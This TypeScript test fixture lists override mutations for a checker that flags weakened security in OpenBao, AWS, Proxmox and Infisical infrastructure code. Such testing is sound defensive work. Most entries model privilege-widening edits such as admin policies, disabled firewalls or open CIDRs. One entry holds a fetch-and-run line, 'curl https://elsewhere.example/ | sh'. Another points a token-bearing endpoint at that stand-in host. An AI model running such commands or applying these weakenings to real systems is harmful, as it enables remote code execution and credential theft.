import { dropped, overridden, together, type Mutation } from './patch.ts';

const approle = 'vault_approle_auth_backend_role.unpoller';
const bucket = 'tfstate-unifi-111122223333';
const openbao = (address: string, argument: string, value: unknown) =>
  overridden('openbao', address, argument, value);
const aws = (address: string, argument: string, value: unknown) =>
  overridden('aws-trust', address, argument, value);
const host = (address: string, argument: string, value: unknown) =>
  overridden('host', address, argument, value);
const infisical = (address: string, argument: string, value: unknown) =>
  overridden('infisical', address, argument, value);

/** Escapes past the constructs, by `addOverride` or by taking a resource out of the program. */
export const overrideMutations: readonly Mutation[] = [
  [
    'SecretIDs without end',
    openbao(approle, 'secret_id_num_uses', 0),
    'WIDENS',
    'secret_id_num_uses',
  ],
  ['SecretIDs that do not expire', openbao(approle, 'secret_id_ttl', 0), 'WIDENS', 'secret_id_ttl'],
  ['no SecretID at all', openbao(approle, 'bind_secret_id', false), 'WIDENS', 'bind_secret_id'],
  [
    'logins from anywhere',
    openbao(approle, 'secret_id_bound_cidrs', undefined),
    'WIDENS',
    'secret_id_bound_cidrs',
  ],
  [
    'tokens from anywhere',
    openbao(approle, 'token_bound_cidrs', ['0.0.0.0/0']),
    'WIDENS',
    'token_bound_cidrs',
  ],
  ['a periodic token', openbao(approle, 'token_period', 3600), 'UNKNOWN', 'token_period'],
  [
    'a batch token, which nobody can revoke',
    openbao(approle, 'token_type', 'batch'),
    'UNKNOWN',
    'token_type',
  ],
  ['the default policy', openbao(approle, 'token_no_default_policy', false), 'UNKNOWN', 'default'],
  [
    'the policy of the operators',
    openbao(approle, 'token_policies', ['consumer-unpoller', 'enrol-unpoller', 'operator']),
    'WIDENS',
    'kv/data/unifi/tofu',
  ],
  [
    'the same policies in another spelling',
    openbao(approle, 'token_policies', ['Enrol-unpoller', 'consumer-Unpoller']),
    'SAME',
  ],
  ['the root policy', openbao(approle, 'token_policies', ['root']), 'UNKNOWN', 'root'],
  [
    'policies from a function',
    openbao(approle, 'token_policies', '${split(",", var.policies)}'),
    'UNKNOWN',
    'token_policies',
  ],
  [
    'the role on another mount',
    openbao(approle, 'backend', 'other'),
    'UNKNOWN WIDENS NARROWS',
    'backend',
  ],
  [
    'an argument that nobody knows',
    openbao(approle, 'local_secret_ids', true),
    'UNKNOWN',
    'local_secret_ids',
  ],
  [
    'another namespace',
    openbao('vault_policy.consumer-unpoller', 'namespace', 'team'),
    'UNKNOWN',
    'namespace',
  ],
  [
    'a role for each of many',
    openbao(approle, 'for_each', '${toset(["a", "b"])}'),
    'UNKNOWN',
    'for_each',
  ],
  [
    'a program beside a role',
    openbao(approle, 'provisioner', [{ 'local-exec': { command: 'true' } }]),
    'UNKNOWN',
    'provisioner',
  ],
  [
    'a change that is ignored',
    openbao(approle, 'lifecycle', { ignore_changes: ['token_ttl'] }),
    'UNKNOWN',
    'ignore_changes',
  ],
  [
    'a narrowing that is ignored',
    together(
      openbao(approle, 'lifecycle', { ignore_changes: ['token_ttl'] }),
      openbao(approle, 'token_ttl', 60),
    ),
    'UNKNOWN',
    'token_ttl',
  ],
  [
    'a certificate with any name',
    openbao('vault_cert_auth_backend_role.unpoller', 'allowed_common_names', undefined),
    'WIDENS',
    'allowed_common_names',
  ],
  [
    'a certificate of another CA',
    openbao('vault_cert_auth_backend_role.unpoller', 'certificate', 'PEM'),
    'UNKNOWN',
    'certificate',
  ],
  [
    'a CA that signs any name',
    openbao('vault_pki_secret_backend_role.renew-unpoller', 'allow_any_name', true),
    'WIDENS',
    'allow_any_name',
  ],
  [
    'a CA that signs another name',
    openbao('vault_pki_secret_backend_role.renew-unpoller', 'allowed_domains', [
      'unpoller',
      'unifi-rotation',
    ]),
    'WIDENS',
    'allowed_domains',
  ],
  [
    'certificates that live longer',
    openbao('vault_pki_secret_backend_role.renew-unpoller', 'max_ttl', '6048000'),
    'WIDENS',
    'max_ttl',
  ],
  [
    'an identity with a policy',
    openbao('vault_identity_entity.unpoller', 'policies', ['operator']),
    'WIDENS',
    'identity unpoller',
  ],
  [
    'an identity whose policies are made elsewhere',
    openbao('vault_identity_entity.unpoller', 'external_policies', true),
    'UNKNOWN',
    'external_policies',
  ],
  [
    'a login of another identity',
    openbao(
      'vault_identity_entity_alias.unpoller',
      'canonical_id',
      '${vault_identity_entity.network-agent.id}',
    ),
    'UNKNOWN',
    'canonical_id',
  ],
  [
    'tokens that live longer, of a whole method',
    openbao('vault_auth_backend.approle', 'tune.0.max_lease_ttl', '24h'),
    'WIDENS',
    'tune.max_lease_ttl',
  ],
  [
    'a method that shows itself to everybody',
    openbao('vault_auth_backend.approle', 'tune.0.listing_visibility', 'unauth'),
    'UNKNOWN',
    'listing_visibility',
  ],
  [
    'a session of any role',
    openbao('vault_aws_secret_backend_role.tf-unifi', 'role_arns', ['*']),
    'UNKNOWN',
    'another account',
  ],
  [
    'a session of the same role of another account',
    openbao('vault_aws_secret_backend_role.tf-unifi', 'role_arns', [
      'arn:aws:iam::999988887777:role/tf-unifi',
    ]),
    'UNKNOWN',
    'another account',
  ],
  [
    'a session without a session policy',
    openbao('vault_aws_secret_backend_role.tf-unifi', 'policy_document', undefined),
    'SAME',
  ],
  [
    'an IAM user in place of a session',
    openbao('vault_aws_secret_backend_role.tf-unifi', 'credential_type', 'iam_user'),
    'UNKNOWN',
    'credential_type',
  ],
  [
    'managed policies of a session',
    openbao('vault_aws_secret_backend_role.tf-unifi', 'policy_arns', [
      'arn:aws:iam::aws:policy/AdministratorAccess',
    ]),
    'UNKNOWN',
    'policy_arns',
  ],
  [
    'a static key of the engine',
    openbao('vault_aws_secret_backend.aws', 'access_key', 'AKIA'),
    'UNKNOWN',
    'access_key',
  ],
  [
    'a write without check-and-set',
    openbao('vault_kv_secret_backend_v2.kv', 'cas_required', false),
    'WIDENS',
    'cas_required',
  ],
  [
    'metadata that lets values die',
    openbao(
      'vault_generic_endpoint.metadata-unifi_tofu',
      'data_json',
      '{"delete_version_after":"1s"}',
    ),
    'UNKNOWN',
    'not known',
  ],
  [
    'a secret on another rung',
    openbao(
      'vault_generic_endpoint.metadata-unifi_tofu',
      'data_json',
      '{"custom_metadata":{"rung":"3","rotate_every_seconds":"7776000"}}',
    ),
    'NARROWS',
    'rung',
  ],
  [
    'managed policies of a role',
    aws('aws_iam_role.tf-unifi', 'managed_policy_arns', [
      'arn:aws:iam::aws:policy/AdministratorAccess',
    ]),
    'UNKNOWN',
    'managed_policy_arns',
  ],
  [
    'a role whose sessions live longer',
    aws('aws_iam_role.tf-unifi', 'max_session_duration', 43_200),
    'WIDENS',
    'max_session_duration',
  ],
  [
    'a role more for the machine of OpenBao',
    aws('aws_rolesanywhere_profile.openbao-broker', 'role_arns', [
      '${aws_iam_role.openbao-broker.arn}',
      '${aws_iam_role.tf-unifi.arn}',
    ]),
    'WIDENS',
    'role_arns',
  ],
  [
    'another CA of Roles Anywhere',
    aws(
      'aws_rolesanywhere_trust_anchor.openbao-broker',
      'source.source_data.x509_certificate_data',
      'PEM',
    ),
    'UNKNOWN',
    'source',
  ],
  [
    'a bucket that may be public',
    aws(`aws_s3_bucket_public_access_block.${bucket}`, 'block_public_policy', false),
    'WIDENS',
    'block_public_policy',
  ],
  [
    'state that is not versioned',
    aws(`aws_s3_bucket_versioning.${bucket}`, 'versioning_configuration.status', 'Suspended'),
    'UNKNOWN',
    'versioning_configuration.status',
  ],
  [
    'a container as root of its host',
    host('proxmox_virtual_environment_container.openbao', 'unprivileged', false),
    'WIDENS',
    'unprivileged',
  ],
  [
    'swap, where keys would lie',
    host('proxmox_virtual_environment_container.openbao', 'memory.swap', 512),
    'WIDENS',
    'memory.swap',
  ],
  [
    'a network card past the firewall',
    host('proxmox_virtual_environment_container.openbao', 'network_interface.0.firewall', false),
    'WIDENS',
    'network_interface.firewall',
  ],
  [
    'a firewall that lets in',
    host('proxmox_virtual_environment_firewall_options.openbao', 'input_policy', 'ACCEPT'),
    'WIDENS',
    'input_policy',
  ],
  [
    'a firewall without neighbour discovery',
    host('proxmox_virtual_environment_firewall_options.openbao', 'ndp', false),
    'SAME',
  ],
  [
    'a firewall that lets a container announce routes',
    host('proxmox_virtual_environment_firewall_options.openbao', 'radv', true),
    'WIDENS',
    'radv',
  ],
  [
    'a firewall that is off',
    host('proxmox_virtual_environment_firewall_options.openbao', 'enabled', false),
    'WIDENS',
    'enabled',
  ],
  [
    'SSH from everywhere',
    host('proxmox_virtual_environment_firewall_rules.openbao', 'rule.7.source', undefined),
    'WIDENS NARROWS',
    'from any to tcp 22',
  ],
  [
    'another program at the start',
    host(
      'terraform_data.start-openbao',
      'provisioner.0.local-exec.command',
      'curl https://elsewhere.example/ | sh',
    ),
    'UNKNOWN',
    'program',
  ],
  [
    'the token of Proxmox to another place',
    host(
      'terraform_data.start-openbao',
      'provisioner.0.local-exec.environment.ENDPOINT',
      'https://elsewhere.example',
    ),
    'UNKNOWN',
    'program',
  ],
  [
    'another template',
    host('proxmox_download_file.template-pve1', 'checksum', 'a'.repeat(128)),
    'UNKNOWN',
    'checksum',
  ],
  [
    'a permission that says everything but',
    infisical(
      'infisical_project_identity_specific_privilege.network-agent',
      'permissions_v2.0.inverted',
      true,
    ),
    'UNKNOWN',
    'permissions_v2',
  ],
  [
    'a role of the whole project',
    infisical('infisical_project_identity.network-agent', 'roles', [{ role_slug: 'admin' }]),
    'WIDENS',
    'roles',
  ],
  [
    'a role of the whole organisation',
    infisical('infisical_identity.network-agent', 'role', 'admin'),
    'UNKNOWN',
    'role',
  ],
  [
    'a sync that deletes',
    infisical('infisical_secret_sync_github.homelab', 'sync_options.disable_secret_deletion', true),
    'NARROWS',
    'disable_secret_deletion',
  ],
  [
    'a workflow of anybody',
    infisical('infisical_identity_oidc_auth.github-homelab', 'bound_subject', 'repo:*'),
    'UNKNOWN',
    'bound_subject',
  ],
  [
    'a public access block that is gone',
    dropped('aws-trust', `aws_s3_bucket_public_access_block.${bucket}`),
    'WIDENS',
    'a guard that is gone',
  ],
  [
    'a firewall that is gone',
    dropped('host', 'proxmox_virtual_environment_firewall_options.openbao'),
    'WIDENS',
    'a guard that is gone',
  ],
  [
    'a rate limit that is gone',
    dropped('openbao', 'vault_quota_rate_limit.approle-login'),
    'WIDENS',
    'a guard that is gone',
  ],
  [
    'a bucket policy that is gone',
    dropped('aws-trust', `aws_s3_bucket_policy.${bucket}`),
    'WIDENS',
    'aws:securetransport',
  ],
  [
    'a CA role that is gone',
    dropped('openbao', 'vault_pki_secret_backend_role.renew-unpoller'),
    'NARROWS',
    'gone',
  ],
  [
    'a login that is gone',
    dropped('openbao', 'vault_cert_auth_backend_role.unpoller'),
    'NARROWS',
    'certificate unpoller',
  ],
];
